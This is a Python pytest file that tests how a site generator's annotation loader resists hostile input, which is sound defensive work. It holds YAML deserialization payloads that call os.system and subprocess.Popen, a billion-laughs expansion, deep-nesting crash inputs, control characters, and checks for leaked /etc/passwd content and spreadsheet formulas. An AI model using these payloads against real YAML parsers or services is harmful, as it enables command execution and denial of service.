    assert INJECTED_HEADING not in items[2].text()


def test_snippet_syntax_includes_no_file(site: Site) -> None:
    for path, text in site.files.items():
        assert "root:x:0:0" not in text, path
        assert "extra_javascript:" not in text, path  # a line of mkdocs.yml


# --- each other field ------------------------------------------------------------------


def _accepted_ids(site: Site) -> set[str]:
    return {a.annotation.id for a in site.notes.anchored}


@pytest.mark.parametrize("case", FIELD_PAYLOADS, ids=[c.pid for c in FIELD_PAYLOADS])
def test_field_payload(site: Site, case: Field) -> None:
    name, _, _ = _field_item(case)
    skipped = any(path.endswith("/" + name) for path in site.notes.skipped_files)
    if not case.accepted:
        assert skipped, f"{name} should have been rejected by the schema"
        marker = _marker(case.value)
        leaks = [p for p, text in site.files.items() if marker in text or marker in unescape(text)]
        assert leaks == []
        return
    assert not skipped and f"field-{case.pid}" in _accepted_ids(site)
    if case.field == "tags":
        tag_page = _tag_page(site, f"field-{case.pid}", case.value)
        heading = content_of(page(site, tag_page)).find("h1")
        assert heading is not None
        shown = heading.text().removesuffix("¶").strip()  # the heading's permalink
        assert shown.casefold().endswith(": " + case.value.casefold()), shown
    elif case.field == "links":
        card = _card(site, f"field-{case.pid}")
        box = card.find("ul", "postilla-note-links")
        assert box is not None
        (link,) = box.find_all("a")
        assert link.get("href") == case.value and link.text() == case.value
        assert link.get("rel") == UGC_REL
    elif case.field == "suffix":
        records = [json.loads(line) for line in site.files["downloads/archive.jsonl"].splitlines()]
        suffixes = {n["suffix"] for r in records for n in r["annotations"]}
        assert case.value in suffixes
    elif case.field == "filename":  # shown in the orphan's "file" line, as text
        shown = re.search(r"<img[^>]*>", case.value)
        assert shown and shown[0] in content_of(page(site, ORPHAN_PAGE)).text()


def _target(from_page: str, href: str) -> str:
    """The site file a relative link on page `from_page` leads to."""
    parts = urlsplit(urljoin(f"https://site.invalid/{from_page}", href))
    assert parts.netloc == "site.invalid" and not parts.query, href
    path = parts.path.lstrip("/")
    return path + "index.html" if path.endswith("/") or not path else path


def _tag_page(site: Site, annotation_id: str, tag: str) -> str:
    """The tag page the card of `annotation_id` links `tag` to: it must have been built."""
    meta = _card(site, annotation_id).find_all("p", "postilla-note-meta")[-1]
    (link,) = [a for a in meta.find_all("a") if a.text() == tag]
    target = _target(ARTICLE_PAGE, link.get("href") or "")
    assert target.startswith("annotations/tags/") and target.endswith("/index.html"), target
    assert target in site.pages, f"the tag link of {annotation_id} leads to {target}: not built"
    return target


def test_tags_of_punctuation_or_differing_in_case_have_working_pages(site: Site) -> None:
    """`_` slugifies to nothing, `Onclick` and `onclick` to the same slug: each tag link
    leads to a built page listing the annotation, case variants share one page, and the
    index's filter uses the same name."""
    shared = _tag_page(site, "field-tag-word-onclick", "onclick")
    assert _tag_page(site, "field-tag-word-onclick-capital", "Onclick") == shared
    underscore = _tag_page(site, "field-tag-underscore", "_")
    assert underscore != shared and underscore != "annotations/tags/index.html"
    expected = {
        shared: {"field-tag-word-onclick", "field-tag-word-onclick-capital"},
        underscore: {"field-tag-underscore"},
    }
    index = page(site, INDEX_PAGE)
    for path, ids in expected.items():
        listed = {
            href.rsplit("#annotation-", 1)[1]
            for a in content_of(page(site, path)).find_all("a")
            if "#annotation-" in (href := a.get("href") or "")
        }
        assert listed == ids, path
        slug = path.split("/")[2]
        index_pages = [
            p for p in site.pages if p == INDEX_PAGE or p.startswith("annotations/index/")
        ]
        for annotation_id in ids:  # the row's filter value is the page's name
            ((where, row),) = [
                (path_, a.parent)
                for path_ in index_pages  # the index is paginated: the row is on one page
                for a in page(site, path_).find_all("a")
                if (a.get("href") or "").endswith(f"#annotation-{annotation_id}")
            ]
            assert row is not None and (row.get("data-tags") or "").split("|") == [slug]
            # and the index's links lead to the article
            (link,) = [a for a in row.find_all("a") if "#annotation-" in (a.get("href") or "")]
            assert _target(where, link.get("href") or "") == ARTICLE_PAGE
        options = [o.get("value") for o in index.find_all("option")]
        assert options.count(slug) == 1


def test_a_word_tag_does_not_share_the_page_of_a_punctuation_tag() -> None:
    assert tag_slug(tag_slug("_")) != tag_slug("_")


# --- downloads -------------------------------------------------------------------------


def _walk(value: Any, keys: set[str], strings: set[str]) -> None:
    if isinstance(value, dict):
        for key, item in value.items():
            keys.add(key)
            _walk(item, keys, strings)
    elif isinstance(value, list):
        for item in value:
            _walk(item, keys, strings)
    elif isinstance(value, str):
        strings.add(value)


def _json_parts(site: Site) -> dict[str, tuple[set[str], set[str]]]:
    parts = {}
    for path in ("downloads/annotations.jsonld", "downloads/archive.jsonl"):
        text = site.files[path]
        documents = (
            # the W3C collection and its pages: all the annotations, 100 a page
            [json.loads(text)]
            + [
                json.loads(page)
                for name, page in site.files.items()
                if name.startswith("downloads/annotations/") and name.endswith(".jsonld")
            ]
            if path.endswith(".jsonld")
            else [json.loads(line) for line in text.splitlines()]
        )
        keys: set[str] = set()
        strings: set[str] = set()
        for document in documents:
            _walk(document, keys, strings)
        parts[path] = (keys, strings)
    return parts


def test_json_downloads_hold_payloads_as_string_values_only(sites: tuple[Site, Site]) -> None:
    baseline, payloads = sites
    before, after = _json_parts(baseline), _json_parts(payloads)
    for path, (keys, strings) in after.items():
        # Many more annotations than the baseline's fill more than one W3C AnnotationPage,
        # and pages link to each other: keys of the model, not of a payload.
        allowed = before[path][0] | {"next", "prev"}
        assert keys <= allowed, f"{path}: new keys {keys - allowed}"
        for param in NOTE_PAYLOADS:
            assert _xss(param).payload in strings, (path, _xss(param).pid)
    jsonl = after["downloads/archive.jsonl"][1]
    for param in NOTE_PAYLOADS:
        assert _xss(param).payload[:2000] in jsonl  # the orphan's quote


def test_csv_download_starts_no_cell_with_a_formula(sites: tuple[Site, Site]) -> None:
    def formulas(site: Site) -> set[str]:
        rows = csv.reader(io.StringIO(site.files["downloads/archive.csv"]))
        return {cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")}

    baseline, payloads = sites
    limit = csv.field_size_limit(10**8)  # a cell holds an article's annotations as JSON
    try:
        assert formulas(payloads) <= formulas(baseline)
    finally:
        csv.field_size_limit(limit)


# --- YAML ----------------------------------------------------------------------------

VALID_ITEM = """\
article: art
annotations:
- quote: "abc def"
  kind: comment
  note: NOTE
  author: tester
  date: "2024-01-01"
"""


def _item(note_line: str = "note: hello", **replace: str) -> str:
    text = VALID_ITEM.replace("note: NOTE", note_line)
    for old, new in replace.items():
        text = text.replace(old, new)
    return text


LAUGHS = "".join(
    f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9) if i else ', '.join(['lol'] * 9)}]\n"
    for i in range(10)
)


class YamlCase(NamedTuple):
    pid: str
    text: str  # "{marker}": a file that must not be created
    line: int | None
    words: tuple[str, ...]  # all in the message (case-insensitive)


def _y(pid: str, text: str, line: int | None, *words: str) -> Any:
    return pytest.param(YamlCase(pid, text, line, words), id=pid)


# PyYAML composes nested collections recursively: deep nesting is a RecursionError that
# yamlio.load turns into this message (no line: the error has no position).
NESTED = "the YAML is nested more than a text file needs — flatten it"


def _character(character: str) -> str:
    """yamlio.load's message for a character the YAML reader refuses."""
    return f"character {character!r} (U+{ord(character):04X}) is not allowed in YAML — remove it"


YAML_PAYLOADS = [
    _y("python-apply-note", _item('note: !!python/object/apply:os.system ["touch {marker}"]'), 5, "tag", "python/object/apply", "not allowed", "remove"),
    _y("python-apply-document", '!!python/object/apply:os.system ["touch {marker}"]\n', 1, "tag", "python/object/apply", "not allowed"),
    _y("python-name", "article: !!python/name:os.system\nannotations: []\n", 1, "tag", "python/name", "not allowed"),
    _y("python-object-new", _item('note: !!python/object/new:subprocess.Popen [["touch", "{marker}"]]'), 5, "tag", "python/object/new", "not allowed"),
    _y("python-module", _item("note: !!python/module:os"), 5, "tag", "python/module", "not allowed"),
    _y("python-verbatim-tag", _item('note: !<tag:yaml.org,2002:python/object/apply:os.system> ["touch {marker}"]'), 5, "tag", "python/object/apply", "not allowed"),
    _y("python-tag-directive", "%TAG !py! tag:yaml.org,2002:python/object/apply:\n---\n" + _item('note: !py!os.system ["touch {marker}"]'), 7, "tag", "python/object/apply", "not allowed"),
    _y("custom-tag", _item("note: !foo bar"), 5, "tag", "!foo", "not allowed", "remove"),
    _y("binary-tag", _item("note: !!binary aGVsbG8="), 5, "tag", "binary", "not allowed"),
    _y("anchor-and-alias", _item("note: &n hello", **{"author: tester": "author: *n"}), 5, "anchor &n", "not allowed", "write the value out"),
    _y("alias", _item(**{"author: tester": "author: *n"}), 6, "alias *n", "not allowed"),
    _y("billion-laughs", LAUGHS + _item(), 1, "anchor &l0", "not allowed"),
    _y("merge-key", _item() + "  <<: {verdict: 'true'}\n", 8, "merge keys", "<<", "not allowed"),
    _y("merge-alias", "base: &b {kind: comment}\n" + _item() + "  <<: *b\n", 1, "anchor &b", "not allowed"),
    _y("duplicate-top-key", _item() + "article: other\n", 8, "duplicate key 'article'", "line 1", "keep only one"),
    _y("duplicate-item-key", _item() + "  note: again\n", 8, "duplicate key 'note'", "line 5", "keep only one"),
    _y("kind-yes", _item(**{"kind: comment": "kind: yes"}), 4, "'yes'", "comment", "fact-check"),
    _y("kind-no", _item(**{"kind: comment": "kind: no"}), 4, "'no'", "comment", "fact-check"),
    _y("note-null", _item("note: null"), 5, "note"),
    _y("document-is-a-list", "- article: art\n- annotations: []\n", 1, "mapping", "template"),
    _y("document-is-a-scalar", "just some words\n", 1, "mapping", "template"),
    _y("empty-document", "", 1, "mapping", "template"),
    _y("two-documents", _item() + "---\n" + _item(), 8, "single document"),
    _y("complex-key", _item() + "  ? [a, b]\n  : c\n", 8, "key"),
    _y("extra-key-handler", _item() + "  onload: alert(1)\n", 8, "unknown key 'onload'"),
    _y("nested-50", _item("note: " + "[" * 50 + "]" * 50), 5, "note"),
    _y("over-64-kib", _item() + "# " + "x" * 70_000 + "\n", None, "64 KiB", "split"),
    _y("nested-1000", _item("note: " + "[" * 1000 + "]" * 1000), None, NESTED),
    _y("raw-nul", _item('note: "a\x00b"'), 5, _character("\x00")),
    _y("raw-escape", _item('note: "\x1b[31mred"'), 5, _character("\x1b")),
    _y("raw-form-feed", _item('note: "\x0c"'), 5, _character("\x0c")),
    _y("raw-delete", _item("note: a\x7fb"), 5, _character("\x7f")),
    _y("raw-c1-csi", _item("note: a\x9b31mb"), 5, _character("\x9b")),
    _y("raw-escape-in-comment", "# \x1b[2J\n" + _item(), 1, _character("\x1b")),
    _y("raw-escape-in-key", _item() + "  \x1b: x\n", 8, _character("\x1b")),
]  # fmt: skip


def _case(param: Any) -> YamlCase:
    return param.values[0]


@pytest.mark.parametrize("case", YAML_PAYLOADS)
def test_yaml_payload_is_refused_with_a_clear_message(case: YamlCase, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    text = case.text.replace("{marker}", str(marker))
    started = time.perf_counter()
    annotations, problems = parse_file(text, "x.yml", {"art"})
    assert time.perf_counter() - started < 2
    assert not marker.exists(), "a YAML payload ran a command"
    assert annotations == []
    errors = [p for p in problems if p.severity == "error"]
    assert errors, problems
    first = errors[0]
    assert first.path == "x.yml"
    assert first.line == case.line, str(first)
    for word in case.words:
        assert word.lower() in first.message.lower(), f"{word!r} not in {first.message!r}"


# Nesting deeper than the C stack allows, in files under parse_file's 64 KiB: run in a child
# process, so that a crash fails this test instead of killing the test run.
DEEP_NESTING = [
    pytest.param("note: " + "[" * 30_000 + "]" * 30_000, id="flow-sequences-30000"),
    pytest.param("note:\n    " + "- " * 30_000 + "x", id="block-sequences-30000"),
]
_PARSE_IN_CHILD = """
import json, sys
from generator.annotations import parse_file
annotations, problems = parse_file(open(sys.argv[1], encoding="utf-8").read(), "x.yml", {"art"})
print(json.dumps([len(annotations), [(p.line, p.message) for p in problems]]))
"""


@pytest.mark.parametrize("note", DEEP_NESTING)
def test_deep_nesting_is_refused_without_crashing(note: str, tmp_path: Path) -> None:
    text = _item(note)
    assert len(text.encode("utf-8")) < 64 * 1024
    hostile = tmp_path / "hostile.yml"
    hostile.write_text(text, encoding="utf-8")
    child = subprocess.run(
        [sys.executable, "-c", _PARSE_IN_CHILD, str(hostile)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert child.returncode == 0, f"the parser died: exit code {child.returncode}"
    count, problems = json.loads(child.stdout)
    assert count == 0
    assert [line for line, _ in problems] == [None]
    assert NESTED in problems[0][1]


def test_yaml_plain_scalars_stay_strings() -> None:
    text = _item(
        "note: yes",
        **{'date: "2024-01-01"': "date: 2024-01-01", "author: tester": "author: 012"},
    ).replace("  kind: comment", "  kind: comment\n  id: 012\n  tags: [no, 0x1F, 1e3, NaN]")
    annotations, problems = parse_file(text, "x.yml", {"art"})
    assert problems == []
    (note,) = annotations
    assert (note.note, note.date, note.author, note.id) == ("yes", "2024-01-01", "012", "012")
    assert note.tags == ("no", "0x1F", "1e3", "NaN")


def test_undecodable_file_is_skipped_with_a_clear_message(tmp_path: Path) -> None:
    folder = tmp_path / "annotations" / "art"
    folder.mkdir(parents=True)
    (folder / "latin1.yml").write_bytes(
        _item("note: caff\xe8 e perch\xe9").encode("latin-1") + b"\xff\xfe\n"
    )
    (folder / "good.yml").write_text(_item(), encoding="utf-8")
    articles = {"art": make_article("art", "Testo con abc def dentro.")}
    notes = load_annotations(tmp_path, articles)
    assert [a.annotation.path.rsplit("/", 1)[-1] for a in notes.anchored] == ["good.yml"]
    assert [s.rsplit("/", 1)[-1] for s in notes.skipped_files] == ["latin1.yml"]
    (problem,) = [p for p in notes.problems if p.severity == "error"]
    assert "latin1.yml" in problem.path
    assert "cannot read" in problem.message and "UTF-8" in problem.message


@pytest.mark.parametrize(
    "case", [p for p in YAML_PAYLOADS if _case(p).pid.startswith(("nested-", "raw-"))]
)
def test_a_file_that_breaks_the_yaml_reader_is_skipped_not_fatal(
    case: YamlCase, tmp_path: Path
) -> None:
    """The plugin calls load_annotations on every build: one hostile file must be skipped
    with a problem (located where the reader gives a place), never stop the build."""
    folder = tmp_path / "annotations" / "art"
    folder.mkdir(parents=True)
    (folder / "hostile.yml").write_text(case.text, encoding="utf-8")
    (folder / "good.yml").write_text(_item(), encoding="utf-8")
    notes = load_annotations(tmp_path, {"art": make_article("art", "Testo con abc def dentro.")})
    assert len(notes.anchored) == 1
    assert [s.rsplit("/", 1)[-1] for s in notes.skipped_files] == ["hostile.yml"]
    (problem,) = [p for p in notes.problems if "hostile.yml" in p.path]
    assert problem.severity == "error" and problem.line == case.line
    assert case.words[0] in problem.message


@pytest.mark.parametrize(
    "character", ["\x00", "\x01", "\x08", "\x0b", "\x1b", "\x7f", "\x9b", "\ufffe"]
)
def test_a_refused_character_is_located(character: str) -> None:
    """The problem names the character and points at its line and column."""
    text = _item(f'note: "one {character} two"')
    offset = text.index(character)
    line = text.count("\n", 0, offset) + 1
    column = offset - text.rfind("\n", 0, offset)
    (problem,) = parse_file(text, "x.yml", {"art"})[1]
    assert (problem.line, problem.column) == (line, column), str(problem)
    assert _character(character) in problem.message
